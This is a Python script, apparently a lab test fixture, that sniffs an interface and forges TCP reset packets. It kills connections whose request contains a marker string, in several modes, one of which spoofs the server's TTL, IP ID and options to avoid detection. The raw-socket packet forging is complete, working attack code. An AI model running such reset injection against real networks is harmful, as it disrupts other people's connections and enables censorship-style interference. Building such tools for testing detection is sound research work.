"""A middlebox that forges resets: it watches the router's line to the client for a request that holds INJECTME.

both     three resets to the client at guessed numbers and one to the server, with a TTL and an IP ID of its own
stealth  one to the client, in everything as the server's last packet
blind    to the client, far outside its window
window   to the client, inside its window, not at its next number
server   one to the server alone, as the client's packets but for the TTL

It says "ready", and for each line of its standard input how late it was at the latest, in milliseconds.
"""

import socket
import struct
import sys
import threading

sys.dont_write_bytecode = True
from lateness import Lateness

ETH_P_ALL = 3
RST, ACK = 4, 16
how = sys.argv[1]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
wire.bind(("mc", ETH_P_ALL))
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
lateness = Lateness(lambda ms: None)


def tell():
    for _ in sys.stdin:
        lateness.look()
        print(lateness.most, flush=True)


threading.Thread(target=tell, daemon=True).start()
print("ready", flush=True)


class Packet:
    def __init__(self, octets):
        ihl = (octets[0] & 15) * 4
        length, self.id = struct.unpack("!HH", octets[2:6])
        self.ttl = octets[8]
        self.source, self.target = octets[12:16], octets[16:20]
        tcp = octets[ihl:length]
        self.sport, self.dport, self.seq, self.ack = struct.unpack("!HHLL", tcp[:12])
        self.window = struct.unpack("!H", tcp[14:16])[0]
        header = (tcp[12] >> 4) * 4
        self.options, self.payload = tcp[20:header], tcp[header:]


def checksum(octets):
    total = sum(struct.unpack("!%dH" % (len(octets) // 2), octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forge(source, target, sport, dport, seq, ack, flags, window, ttl, ident, fragment, options=b""):
    offset = (20 + len(options)) // 4 << 4
    tcp = struct.pack("!HHLLBBHHH", sport, dport, seq & 0xFFFFFFFF, ack, offset, flags, window, 0, 0) + options
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ident, fragment, ttl, 6, 0, source, target)
    out.sendto(ip + tcp, (socket.inet_ntoa(target), 0))


def inject(request, server):
    end = request.seq + len(request.payload)
    to_client = (request.target, request.source, request.dport, request.sport)
    to_server = (request.source, request.target, request.sport, request.dport)
    if how == "both":
        for ahead in (0, 1460, 4380):
            forge(*to_client, request.ack + ahead, end, RST | ACK, 0, 101, 0x7A31, 0)
        forge(*to_server, end, request.ack, RST | ACK, 0, 101, 0x7A32, 0)
    elif how == "server":
        forge(*to_server, end, request.ack, RST | ACK, 0, 101, 0x7A32, 0)
    elif how == "stealth":
        forge(*to_client, request.ack, end, RST | ACK, server.window, server.ttl, server.id + 1, 0x4000, server.options)
    elif how == "blind":
        forge(*to_client, request.ack + 50_000_000, 0, RST, 0, 101, 0x7A31, 0)
    elif how == "window":
        forge(*to_client, request.ack + 1000, 0, RST, 0, 101, 0x7A31, 0)


server = None
while True:
    octets, (_, protocol, *_) = wire.recvfrom(65536)
    if protocol != 0x0800 or octets[9] != 6:
        continue
    packet = Packet(octets)
    if packet.sport == 8080:
        server = packet
    elif b"INJECTME" in packet.payload:
        inject(packet, server)
